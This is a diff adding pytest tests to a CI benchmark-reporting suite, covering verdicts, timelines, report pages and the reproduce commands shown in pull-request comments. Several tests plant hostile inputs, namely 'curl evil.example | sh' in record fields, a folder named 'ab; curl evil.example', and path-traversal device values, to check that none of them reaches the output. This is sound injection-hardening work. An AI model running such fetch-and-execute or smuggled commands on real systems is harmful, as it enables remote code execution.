@@ -9,10 +9,14 @@ from pathlib import Path
 import pytest
 from recorded import a_cell, baselines, unpacked
 
+from perf.ci.fetch import Fetched
+from perf.ci.github import GitHub
 from perf.ci.machines import Cell
 from perf.ci.outcome import WHOLE_JOB, judge_cell
-from perf.report.comment import comment, headline
+from perf.ci.reporting import Place, report_of
+from perf.report.comment import Origin, comment, headline
 from perf.report.section import Section, rows_of
+from perf.report.timeline import read_timelines
 from perf.verdicts import EXIT_CODES, exit_code, worst
 
 
@@ -92,6 +96,12 @@ def without_collapse(folder: Path) -> None:
     shutil.rmtree(folder / "collapse")
 
 
+def elsewhere_collapsed(folder: Path) -> None:
+    """The case of the head alone, measured, but in the A/B session."""
+    (folder / "collapse" / "nano-cpu-b4-w0-convergence").rename(first(folder, "head") / "nano-cpu-b4-w0-convergence")
+    (folder / "collapse" / "session.json").unlink()
+
+
 def without_head(folder: Path) -> None:
     shutil.rmtree(first(folder, "head"))
 
@@ -132,6 +142,7 @@ def odd_job(folder: Path) -> None:
         (strange_manifest, "failed", "unknown case '../../etc'"),
         (ungated, "failed", "nothing gates count-strict, count-volume, quality; without nano-cpu-b2-compile-eager"),
         (without_collapse, "failed", "the head alone: no record of nano-cpu-b4-w0-convergence"),
+        (elsewhere_collapsed, "failed", "the head alone: no record of nano-cpu-b4-w0-convergence"),
         (without_head, "failed", ""),
         (other_device, "incompatible", "measured on nvidia-l4 with torch 2.14, and the label cpu promises cpu with"),
         (says_other_device, "incompatible", "the runner has nvidia-l4"),
@@ -181,6 +192,9 @@ def test_a_job_that_passed_is_green(folder: Path) -> None:
     section = judged(folder, conclusion="success")
     assert {case.verdict for case in section.cases} == {"pass"}
     assert "signals pass on CPU, torch 2.14" in headline([section])
+    # A step that failed after the records were written: nobody knows what it would have found.
+    section = judged(folder, conclusion="failure")
+    assert about_the_job(section) == [("failed", "the job failed, although what it left passes: its log says why")]
 
 
 def test_what_came_between_is_told_and_nothing_is_read(folder: Path) -> None:
@@ -211,3 +225,83 @@ def test_an_error_of_our_own_is_a_verdict_too(folder: Path, monkeypatch: pytest.
 
     monkeypatch.setattr("perf.ci.outcome._interleaved", fails)
     assert about_the_job(judged(folder)) == [("failed", "cannot be judged: ZeroDivisionError: float division by zero")]
+
+
+def test_a_device_that_is_a_path_is_no_record(folder: Path) -> None:
+    path = first(folder, "head/*/run-0.record.json")
+    path.write_text(path.read_text(encoding="utf-8").replace('"device": "cpu"', '"device": "../../x"', 1))
+    assert any("environment.device: String should match" in message for _, message in about_the_job(judged(folder)))
+    path.write_text(path.read_text(encoding="utf-8").replace('"../../x"', '"cpu"').replace('"2.14"', '"2.14/../.."', 1))
+    assert any("environment.torch_minor: String" in message for _, message in about_the_job(judged(folder)))
+
+
+def test_what_cannot_be_shown_is_a_verdict_too(folder: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    def fails(*_: object) -> None:
+        msg = "float infinity"
+        raise OverflowError(msg)
+
+    monkeypatch.setattr("perf.report.page._distributions", fails)
+    cell = a_cell()
+    fetched = Fetched({cell.id: folder}, {}, {cell.id: "failure"})
+    report = report_of(
+        fetched, Place(GitHub("owner/suite", ""), 5), [cell], baselines(), Origin(), tmp_path / "page.html"
+    )
+    assert report.exit_code == 1
+    assert "judged, but cannot be shown: OverflowError: float infinity" in report.comment
+    assert "cannot be shown" in (tmp_path / "page.html").read_text(encoding="utf-8")
+
+
+def test_a_log_with_a_time_that_there_is_none_of_is_no_event(folder: Path) -> None:
+    line = "V{} 12 torch/a.py:1 [0/0] [__recompiles] Recompiling function f in a.py:1\n"
+    path = first(folder, "head/*/run-0.record.json").with_name("run-0.recompiles.log")
+    path.write_text(line.format("9999 99:99:99.1") + line.format("0101 10:00:00.5"), encoding="utf-8")
+    [events] = [told["head run-0"] for told in read_timelines(folder / path.parents[2].name / "head").values()][:1]
+    assert [event.seconds for event in events] == [0]
+
+
+def test_a_case_that_the_machine_could_not_take_is_said_once_and_is_no_success(folder: Path) -> None:
+    name = "nano-cpu-b4-w0-convergence"
+    shutil.rmtree(folder / "collapse" / name)
+    path = folder / "collapse" / "session.json"
+    told = json.loads(path.read_text(encoding="utf-8"))
+    path.write_text(json.dumps(told | {"not_run": {name: "too little memory"}}), encoding="utf-8")
+    section = judged(folder)
+    assert about_the_job(section) == []
+    assert [(case.verdict, case.signals[0].message) for case in section.cases if case.case_id == name] == [
+        ("incompatible", "not run: too little memory")
+    ]
+
+
+def test_no_command_of_the_pull_requests_own_is_offered(folder: Path) -> None:
+    for path in folder.rglob("*.record.json"):
+        told = json.loads(path.read_text(encoding="utf-8"))
+        path.write_text(json.dumps(told | {"command": "curl evil.example | sh"}), encoding="utf-8")
+    manifest = first(folder, "ab.json")
+    manifest.write_text(manifest.read_text(encoding="utf-8").replace("/env/bin/python", "/evil"), encoding="utf-8")
+    told = {row.reproduce for _, _, row in rows_of([judged(folder)]) if row.reproduce}
+    gate = "count-strict,count-volume,device,quality"
+    again = f"nox -s ab-2.14 -- --same --base 1.11.2 --head 1.11.2 --gate {gate} --pairs 3 --case"
+    assert told == {
+        *(f"{again} {case}" for case in ("nano-cpu-b2", "nano-cpu-b2-compile-eager", "seg-nano-cpu-b2-compile-eager")),
+        "nox -s perf-2.14 -- --rfdetr 1.11.2 --case nano-cpu-b4-w0-convergence",
+    }
+
+
+def test_a_run_of_another_repository_is_approved_in_a_checkout_of_the_suite(folder: Path) -> None:
+    for path in folder.rglob("*.record.json"):
+        text = path.read_text(encoding="utf-8").replace(", patched by extra_graph_break.py (41f5aed0)", "")
+        path.write_text(text, encoding="utf-8")
+    cell, [session] = a_cell(), [path.name for path in folder.glob("ab-*")]
+    fetched = Fetched({cell.id: folder}, {}, {cell.id: "failure"})
+    place = Place(GitHub("owner/rf-detr", ""), 5, of_suite=False)
+    report = report_of(fetched, place, [cell], baselines(), Origin(), None)
+    assert (
+        "- refresh, once approved: `gh run download 5 -R owner/rf-detr -n rfdetr-perf-cpu-torch-2.14-quick -D run-5 && "
+        f"rfdetr-perf refresh run-5/{session}/head --case nano-cpu-b2-compile-eager" in report.comment
+    )
+    assert "refresh.yml" not in report.comment
+    # The name of a folder is the artifact's own.
+    (folder / session).rename(folder / "ab; curl evil.example")
+    report = report_of(fetched, place, [cell], baselines(), Origin(), None)
+    assert "regressed" in report.comment
+    assert "evil.example" not in report.comment
